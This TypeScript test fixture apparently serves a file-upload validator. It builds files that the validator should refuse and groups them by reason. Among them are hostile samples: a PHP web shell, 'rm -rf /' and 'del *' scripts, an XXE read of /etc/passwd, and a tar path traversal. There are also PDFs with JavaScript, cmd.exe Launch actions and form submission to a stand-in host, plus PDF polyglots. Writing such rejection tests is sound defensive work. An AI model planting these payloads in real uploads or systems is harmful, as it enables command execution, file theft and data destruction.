import { gzipSync } from 'node:zlib';
import type { BestandFout } from '@site/contract/facts';
import sharp from 'sharp';
import { aPdf, aPdfWithObjectStream, aStream, pdfOf } from './documents.js';

/** By name. */
type Files = Readonly<Record<string, Uint8Array | string>>;

const js = '/S/JavaScript/JS(app.alert\\(1\\))';
const page = (entries: string) => `<</Type/Annot/Rect[0 0 9 9]${entries}>>`;

/** Files that are refused, by the reason. */
export async function hostileFiles(): Promise<
  readonly (readonly [what: string, files: Files, BestandFout])[]
> {
  const pdf = aPdf();
  const blank = { create: { width: 300, height: 300, channels: 3, background: '#c04020' } } as const;
  const photo = await sharp(blank).jpeg().toBuffer();
  const picture = await sharp(blank).png().toBuffer();
  const text = aPdf().toString('latin1');
  const afterHeader = (what: string) => Buffer.from(text.replace('\n', `\n${what}\n`), 'latin1');
  // The rest of the pdf is the comment of the zip.
  const comment = text.length - text.indexOf('\n') - 1;
  const endOfZip = `PK\u0005\u0006${'\0'.repeat(16)}${String.fromCharCode(comment % 256, comment >> 8)}`;
  const openWith = (action: string) => pdfOf(`<</Type/Catalog/Pages 2 0 R/OpenAction<<${action}>>>>`);
  const others = {
    html: '<!doctype html><script>alert(1)</script>',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    xml: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    script: '#!/bin/sh\nrm -rf /',
    exe: Buffer.from('MZ\u0090\u0000', 'latin1'),
    elf: Buffer.from('\u007fELF', 'latin1'),
    zip: Buffer.from('PK\u0003\u0004', 'latin1'),
    gzip: gzipSync('x'.repeat(100)),
    gif: 'GIF89a\u0001\u0000',
    webp: Buffer.from('RIFF\u0000\u0000\u0000\u0000WEBPVP8 ', 'latin1'),
    avif: Buffer.from('\u0000\u0000\u0000\u0020ftypavif', 'latin1'),
    mp4: Buffer.from('\u0000\u0000\u0000\u0020ftypisom', 'latin1'),
    tiff: Buffer.from('II*\u0000', 'latin1'),
    postscript: '%!PS-Adobe-3.0',
    latePdf: `\n${aPdf().toString('latin1')}`,
    htmlBeforePdf: `<script>alert(1)</script>${aPdf().toString('latin1')}`,
    zeros: new Uint8Array(1000),
    text: 'tekst',
    byteOrderMark: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), aPdf()]),
    pdfInUtf16: Buffer.from(aPdf().toString('latin1'), 'utf16le'),
    gzippedPdf: gzipSync(aPdf()),
    gzippedSvg: gzipSync('<svg onload="alert(1)"/>'),
    formData: '%FDF-1.2\n1 0 obj<</FDF<<>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
    xdp: '<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>',
    rtf: '{\\rtf1{\\object\\objdata 00}}',
    mhtml: 'MIME-Version: 1.0\nContent-Type: text/html\n\n<script>',
    batch: '@echo off\r\ndel *',
    php: '<?php system($_GET["c"]); ?>',
    word: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    shortcut: Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]),
    javaClass: Buffer.from([0xca, 0xfe, 0xba, 0xbe]),
    wasm: '\0asm',
    rar: 'Rar!\u001a\u0007',
    sevenZip: Buffer.from("7z\u00bc\u00af'\u001c", 'latin1'),
    tar: Buffer.concat([Buffer.from('../../etc/passwd'), Buffer.alloc(600)]),
    bmp: 'BM\0\0',
    icon: Buffer.from([0, 0, 1, 0]),
    jpeg2000: Buffer.from([0, 0, 0, 0x0c, 0x6a, 0x50, 0x20, 0x20]),
    flash: 'CWS\t',
  };
  const damaged = {
    halfPdf: pdf.subarray(0, pdf.length / 2),
    onlyHeader: '%PDF-1.7',
    noPages: '%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF',
    noisePdf: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 7), Buffer.from('\n%%EOF')]),
    halfPhoto: photo.subarray(0, photo.length / 2),
    headerOfPhoto: Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    noisePhoto: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5000, 3)]),
    halfPng: picture.subarray(0, picture.length - 20),
    noisePng: Buffer.concat([picture.subarray(0, 8), Buffer.alloc(5000, 3)]),
    scriptInPhoto: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('/*=alert(1)//')]),
    otherChecksum: Buffer.concat([picture.subarray(0, 29), Buffer.from([1, 2, 3, 4]), picture.subarray(33)]),
  };
  const active = {
    openActionScript: openWith(js),
    openActionScriptEscaped: openWith('/S/Java#53cript/JS(1)'),
    openActionNext: openWith(`/S/GoTo/D[3 0 R/Fit]/Next<<${js}>>`),
    openActionIndirect: pdfOf('<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>', `<<${js}>>`),
    scriptInStream: pdfOf(
      '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS 4 0 R>>>>',
      aStream('', Buffer.from('1')),
    ),
    scriptNames: pdfOf('<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>', `<<${js}>>`),
    catalogTriggers: pdfOf(`<</Type/Catalog/Pages 2 0 R/AA<</WC<<${js}>>>>>>`),
    launch: openWith('/S/Launch/F(cmd.exe)'),
    launchLink: aPdf(page('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>')),
    remote: openWith('/S/GoToR/F(x.pdf)/D[0/Fit]'),
    embeddedTarget: openWith('/S/GoToE/D[0/Fit]/T<</R/C>>'),
    submit: openWith('/S/SubmitForm/F(https://kwaad.example)'),
    importData: openWith('/S/ImportData/F(x.fdf)'),
    rendition: openWith('/S/Rendition/OP 0'),
    movie: openWith('/S/Movie'),
    sound: openWith('/S/Sound'),
    attachment: pdfOf(
      '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>',
      '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
      aStream('/Type/EmbeddedFile', Buffer.from('MZ')),
    ),
    attachmentAnnotation: aPdf(page('/Subtype/FileAttachment/FS<</Type/Filespec/F(a)>>')),
    embeddedFileAlone: aPdf(aStream('/Type/EmbeddedFile', Buffer.from('MZ'))),
    richMedia: aPdf(page('/Subtype/RichMedia')),
    threeD: aPdf(page('/Subtype/3D')),
    screen: aPdf(page('/Subtype/Screen')),
    xfa: pdfOf('<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA(x)/Fields[]>>>>'),
    portfolio: pdfOf('<</Type/Catalog/Pages 2 0 R/Collection<<>>>>'),
    inObjectStream: aPdfWithObjectStream(`<<${js}>>`),
    launchInObjectStream: aPdfWithObjectStream('<</S/Launch/F(cmd.exe)>>'),
    inStreamWithoutType: aPdfWithObjectStream(`<<${js}>>`, ''),
    inStreamOfOtherType: aPdfWithObjectStream(`<<${js}>>`, '/Type/Metadata'),
    inStreamOfIndirectType: aPdfWithObjectStream(`<<${js}>>`, '/Type 3 0 R'),
    replacedLater: Buffer.from(
      aPdfWithObjectStream(`<<${js}>>`)
        .toString('latin1')
        .replace('xref\n', '4 0 obj\nnull\nendobj\n9 0 obj\nnull\nendobj\nxref\n'),
      'latin1',
    ),
    hiddenInStream: aPdf(aStream('', Buffer.from('9 0 obj\n<</S/JavaScript/JS(1)>>\nendobj'))),
    launchOfIndirectType: Buffer.from(
      aPdfWithObjectStream('/Launch')
        .toString('latin1')
        .replace('/Parent 2 0 R', '/Parent 2 0 R/AA<</O<</S 9 0 R/F(cmd.exe)>>>>'),
      'latin1',
    ),
    scriptLink: aPdf(page('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>')),
    fileLink: aPdf(page('/Subtype/Link/A<</S/URI/URI<66696C653A2F2F2F633A>>>')),
    streamInOtherFile: aPdf(aStream('/F(\\\\\\\\kwaad.example\\\\map)', Buffer.alloc(0))),
    trailingZip: Buffer.concat([aPdf(), Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(50, 1)]),
    trailingHtml: Buffer.concat([aPdf(), Buffer.from('<script>alert(1)</script>')]),
  };
  const polyglots = {
    html: afterHeader('%<!doctype html><SCRIPT>alert(1)</SCRIPT>'),
    php: afterHeader('%<?php system($_GET["c"]); ?>'),
    zip: afterHeader(`%PK\u0003\u0004${endOfZip}`),
    zipInStream: aPdf(aStream('', Buffer.from(endOfZip, 'latin1'))),
    rar: aPdf(aStream('', Buffer.from('Rar!\u001a\u0007\u0001\0', 'latin1'))),
    sevenZip: aPdf(aStream('', Buffer.from('7z\u00bc\u00af\u0027\u001c\0\u0004', 'latin1'))),
  };
  return [
    ['what is no pdf or photo', others, 'soort'],
    ['an empty file', { empty: '' }, 'leeg'],
    ['a truncated or damaged file', damaged, 'kapot'],
    ['a pdf that does more than show pages', active, 'inhoud'],
    ['a pdf that is a web page, a program or an archive as well', polyglots, 'inhoud'],
  ];
}
